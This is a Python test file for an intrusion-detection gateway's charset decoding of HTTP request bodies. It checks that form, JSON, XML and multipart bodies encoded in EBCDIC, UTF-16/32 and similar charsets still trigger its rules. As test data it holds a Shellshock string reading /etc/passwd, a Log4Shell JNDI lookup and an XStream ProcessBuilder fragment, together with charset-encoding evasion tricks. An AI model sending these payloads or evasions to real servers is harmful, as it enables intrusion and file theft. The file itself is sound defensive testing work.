"""Character sets of request bodies (gateway/decode/charsets.py and its use in
gateway/decode/app.py): a form, JSON, XML or multipart body re-encoded in a charset the server
decodes yields the parameters of its UTF-8 original among the forms of `http.body_params`
(the field or its variant), and the real rules fire on it through the engine; benign bodies so
encoded stay quiet."""

from __future__ import annotations

import json
import urllib.parse
from functools import cache

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from gateway.decode import charsets
from gateway.decode.app import HttpAdapter, end_fields
from gateway.decode.registry import MAX_VARIANTS, variant_key
from gateway.engine import Engine
from gateway.engine_config import EngineConfig
from gateway.match.matcher import Matcher
from gateway.match.rules import all_rules_on, default_rule_dir, load_rules
from gateway.testing.traffic import contiguous, replay_packets, tcp_session

# charsets ASP.NET/IIS, Tomcat or a JSON parser decode, as Python names them
FORM_CHARSETS = (
    "ibm037", "ibm500", "cp875", "ibm1026", "ibm273", "ibm01140", "utf-16", "utf-16le",
    "utf-16be", "utf-32", "utf-32le", "utf-32be", "utf-7", "windows-1252", "windows-1251",
    "iso-8859-1", "iso-8859-7", "koi8-r", "shift_jis",
)  # fmt: skip
JSON_CHARSETS = ("utf-16", "utf-16le", "utf-16be", "utf-32", "utf-32le", "utf-32be")

SHELLSHOCK = "() { :; }; /bin/cat /etc/passwd"  # 9010010 on http.body_params
LOG4SHELL = "${jndi:ldap://198.18.0.9/a}"  # 9010001 on http.lookups
_VALUES = st.text(
    alphabet=st.characters(codec="latin-1", categories=("L", "N", "P", "S", "Zs")), max_size=24
)


def forms(fields: dict[str, int | bytes], name: str) -> set[bytes]:
    """Every line of a field and of its variants."""
    out: set[bytes] = set()
    for key in (name, *(variant_key(name, n) for n in range(1, MAX_VARIANTS + 1))):
        value = fields.get(key)
        if isinstance(value, bytes):
            out.update(value.split(b"\n"))
    return out


def body_fields(content_type: str, body: bytes) -> dict[str, int | bytes]:
    return end_fields({"http.header.content-type": content_type.encode()}, body, len(body))


def encodable(text: str, charset: str) -> bool:
    try:
        text.encode(charsets.CHARSETS[charset])
    except UnicodeEncodeError:
        return False
    return True


class TestCharsetNames:
    def test_declared_charsets_resolve_through_the_table_only(self) -> None:
        assert charsets.declared_codec("application/x-www-form-urlencoded; charset=IBM037") == (
            "cp037"
        )
        assert charsets.declared_codec('text/plain; Charset="utf-16"') == "utf-16"
        for undecoded in ("utf-8", "UTF8", "us-ascii", "x-no-such-set", "rot13", "base64"):
            assert charsets.declared_codec(f"text/plain; charset={undecoded}") is None
        assert charsets.declared_codec("text/plain") is None
        assert charsets.declared_codec("text/plain; charset=ISO-8859-1") == "latin-1"

    def test_bom_and_rfc4627_zero_bytes(self) -> None:
        doc = '{"a":1}'
        assert charsets.sniffed_codec(doc.encode("utf-16"), False) == "utf-16"
        assert charsets.sniffed_codec(doc.encode("utf-32"), False) == "utf-32"
        assert charsets.sniffed_codec(doc.encode("utf-16-be"), True) == "utf-16-be"
        assert charsets.sniffed_codec(doc.encode("utf-32-le"), True) == "utf-32-le"
        assert charsets.sniffed_codec(doc.encode("utf-16-le"), False) is None  # not JSON/XML
        assert charsets.sniffed_codec(doc.encode(), True) is None

    def test_every_table_codec_decodes_and_utf16_order_follows_the_zero_bytes(self) -> None:
        for codec in set(charsets.CHARSETS.values()):
            assert isinstance(charsets.decode_text(bytes(range(256)), codec), str)
        assert charsets.decode_text("ab".encode("utf-16-be"), "utf-16") == "ab"
        assert charsets.decode_text("ab".encode("utf-16-le"), "utf-16") == "ab"
        assert charsets.decode_text("ab".encode("utf-32-be"), "utf-32") == "ab"


class TestSameParametersAsUtf8:
    """The property: a body re-encoded in a supported charset yields the UTF-8 body's
    parameters (the lines of `http.body_params` or of its variant)."""

    @settings(max_examples=60, deadline=None)
    @given(charset=st.sampled_from(FORM_CHARSETS), value=_VALUES, attack=st.booleans())
    def test_form_body_whole_or_escaped_in_the_charset(
        self, charset: str, value: str, attack: bool
    ) -> None:
        value = SHELLSHOCK + value if attack else value
        assume(encodable(value, charset))
        pairs = [("lang", "en"), ("cmd", value)]
        reference = body_fields(
            "application/x-www-form-urlencoded", urllib.parse.urlencode(pairs).encode()
        )
        want = set(reference["http.body_params"].split(b"\n"))  # type: ignore[union-attr]
        content_type = f"application/x-www-form-urlencoded; charset={charset}"
        codec = charsets.CHARSETS[charset]
        escaped = urllib.parse.urlencode(pairs, encoding=codec).encode("ascii")
        assert want <= forms(body_fields(content_type, escaped), "http.body_params")
        whole = urllib.parse.urlencode(pairs).encode(codec)
        assert want <= forms(body_fields(content_type, whole), "http.body_params")

    @settings(max_examples=40, deadline=None)
    @given(charset=st.sampled_from(JSON_CHARSETS), value=_VALUES, declared=st.booleans())
    def test_json_body_by_charset_or_by_its_bytes(
        self, charset: str, value: str, declared: bool
    ) -> None:
        doc = json.dumps({"user": {"name": LOG4SHELL + value, "n": 3}}, ensure_ascii=False)
        reference = body_fields("application/json", doc.encode())
        content_type = f"application/json; charset={charset}" if declared else "application/json"
        encoded = body_fields(content_type, doc.encode(charsets.CHARSETS[charset]))
        want = set(reference["http.body_params"].split(b"\n"))  # type: ignore[union-attr]
        assert want <= forms(encoded, "http.body_params")
        assert encoded[variant_key("http.body", 1)] == doc.encode()
        assert LOG4SHELL.encode() in encoded["http.lookups"]  # type: ignore[operator]

    @pytest.mark.parametrize("how", ["part", "_charset_", "top"])
    @pytest.mark.parametrize("charset", ["ibm037", "ibm500", "utf-16", "utf-7", "cp875"])
    def test_multipart_value_in_its_part_charset(self, how: str, charset: str) -> None:
        codec = charsets.CHARSETS[charset]
        part_type = f"Content-Type: text/plain; charset={charset}\r\n" if how == "part" else ""
        first = (
            b'--B\r\nContent-Disposition: form-data; name="_charset_"\r\n\r\n'
            + charset.encode()
            + b"\r\n"
            if how == "_charset_"
            else b""
        )
        body = (
            first
            + b'--B\r\nContent-Disposition: form-data; name="cmd"\r\n'
            + part_type.encode()
            + b"\r\n"
            + SHELLSHOCK.encode(codec)
            + b"\r\n--B--\r\n"
        )
        top = f"; charset={charset}" if how == "top" else ""
        fields = body_fields(f"multipart/form-data; boundary=B{top}", body)
        assert f"cmd={SHELLSHOCK}".encode() in forms(fields, "http.body_params")


class TestUndecodedStaysAsToday:
    def test_no_charset_parameter_adds_no_variant(self) -> None:
        fields = body_fields("application/x-www-form-urlencoded", b"a=%E9t%E9&b=1")
        assert not any("#" in key for key in fields)
        fields = body_fields("application/json; charset=utf-8", '{"a":"é"}'.encode())
        assert not any("#" in key for key in fields)

    def test_unknown_charset_keeps_the_bytes(self) -> None:
        body = "cmd=() { :; }".encode("cp037")
        fields = body_fields("application/x-www-form-urlencoded; charset=x-ebcdic-nope", body)
        assert fields["http.body_params"] == body and variant_key("http.body", 1) not in fields

    def test_query_read_in_the_declared_charset(self) -> None:
        query = urllib.parse.urlencode([("cmd", SHELLSHOCK)], encoding="cp037")
        data = (
            f"GET /a.aspx?{query} HTTP/1.1\r\nHost: h\r\n"
            "Content-Type: text/plain; charset=ibm037\r\n\r\n"
        ).encode()
        records = HttpAdapter().feed(data)
        assert f"cmd={SHELLSHOCK}".encode() in forms(records[-1].fields, "http.query")


# ----------------------------------------------------------------------------- the engine


@cache
def matcher() -> Matcher:
    return Matcher(all_rules_on(load_rules([default_rule_dir()])))


def sids(request: bytes) -> set[int]:
    engine = Engine(matcher().ruleset, EngineConfig(), matcher=matcher())
    try:
        events = replay_packets(engine, tcp_session(contiguous(request, 1000), dport=80))
    finally:
        engine.close()
    return {e.signature_id for e in events}


def post(content_type: str, body: bytes, path: str = "/cgi-bin/form.cgi") -> bytes:
    head = f"POST {path} HTTP/1.1\r\nHost: legacy.example\r\nContent-Type: {content_type}\r\n"
    return head.encode() + b"Content-Length: %d\r\n\r\n" % len(body) + body


class TestRulesThroughTheEngine:
    @pytest.mark.parametrize(
        "charset", ["ibm037", "ibm500", "cp875", "ibm1026", "utf-16", "utf-32"]
    )
    def test_shellshock_form_parameter_in_the_charset(self, charset: str) -> None:
        codec = charsets.CHARSETS[charset]
        ctype = f"application/x-www-form-urlencoded; charset={charset}"
        whole = f"name={SHELLSHOCK}".encode(codec)
        escaped = ("name=" + urllib.parse.quote_plus(SHELLSHOCK.encode(codec))).encode()
        if not codec.startswith("utf"):  # (a UTF-16/32 body's BOM shows its charset anyway)
            assert 9010010 not in sids(post("application/x-www-form-urlencoded", whole))
        assert 9010010 in sids(post(ctype, whole))
        assert 9010010 in sids(post(ctype, escaped))

    @pytest.mark.parametrize("charset", JSON_CHARSETS)
    def test_log4shell_in_a_utf16_or_utf32_json_body(self, charset: str) -> None:
        body = json.dumps({"user": LOG4SHELL}).encode(charsets.CHARSETS[charset])
        assert 9010001 in sids(post("application/json", body, "/api/login"))

    def test_xstream_gadget_in_a_utf16_xml_body(self) -> None:
        xml = '<?xml version="1.0" encoding="UTF-16"?><map><entry><java.lang.ProcessBuilder/>'
        assert 9010091 in sids(post("application/xml", xml.encode("utf-16"), "/orders/3"))

    @pytest.mark.parametrize("charset", ["ibm037", "utf-16", "utf-32"])
    def test_benign_samples_in_the_charset_stay_quiet(self, charset: str) -> None:
        codec = charsets.CHARSETS[charset]
        body = '{"js":"var f = () { return 1; };"}'.encode(codec)
        assert sids(post(f"application/json; charset={charset}", body)) == set()
        form = "tpl=Hello ${name}, total ${price:-0}&doc=jndi:ldap doc&f=a() { b }".encode(codec)
        assert sids(post(f"application/x-www-form-urlencoded; charset={charset}", form)) == set()
